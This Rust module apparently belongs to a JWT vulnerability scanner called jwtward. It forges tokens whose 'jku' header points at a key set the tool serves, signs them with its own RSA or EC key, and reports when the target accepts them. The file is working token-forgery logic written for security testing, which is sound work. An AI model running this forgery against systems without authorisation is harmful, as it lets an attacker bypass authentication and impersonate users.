//! A `jku` header pointing at the JWKS jwtward serves on loopback (or `--callback-url`).

use crate::context::{Ctx, State, diff_note, differential, random_payload};
use crate::rules::JKU_HEADER_INJECTION;
use jwtward_jose::{Alg, Jws, Key};
use serde_json::Value;

pub async fn run(ctx: &Ctx, st: &State) {
    let Some(jws) = ctx.jws() else { return };
    let Some(server) = &ctx.callback else { return };
    let mut keys: Vec<(&Key, Alg, String)> = Vec::new();
    if let Some(r) = &ctx.attacker_rsa {
        keys.push((r, Alg::RS256, format!("jwtward-rsa-{}", ctx.nonce)));
    }
    if st.rep || keys.is_empty() {
        keys.push((
            &ctx.attacker_ec,
            Alg::ES256,
            format!("jwtward-ec-{}", ctx.nonce),
        ));
    }
    let url = server.jwks_url();
    for (key, alg, kid) in keys {
        let make = |base: &Jws| {
            let mut h = base.header().clone();
            if let Some(o) = h.as_object_mut() {
                o.insert("alg".into(), Value::String(alg.as_str().into()));
                o.insert("jku".into(), Value::String(url.clone()));
                o.insert("kid".into(), Value::String(kid.clone()));
                o.shift_remove("jwk");
            }
            base.with_header(&h)
                .signed(alg, key)
                .ok()
                .map(|j| j.to_compact())
        };
        let Some(token) = make(jws) else { continue };
        let Some((v, req, resp)) = ctx.attack(st, &token, "jku").await else {
            return;
        };
        if v.accepted() {
            let d = differential(ctx, st, make(&random_payload(ctx, jws))).await;
            let fetched = server
                .hits()
                .iter()
                .any(|h| h.starts_with(&server.jwks_path));
            ctx.report(
                st,
                &JKU_HEADER_INJECTION,
                format!(
                    "accepts a token signed ({alg}) with jwtward's key, whose `jku` points at the JWKS jwtward serves ({url}){}{}",
                    if fetched {
                        "; the target fetched it"
                    } else {
                        ""
                    },
                    diff_note(d.as_ref(), "sub")
                ),
                &req,
                &resp,
            );
            return;
        }
    }
}
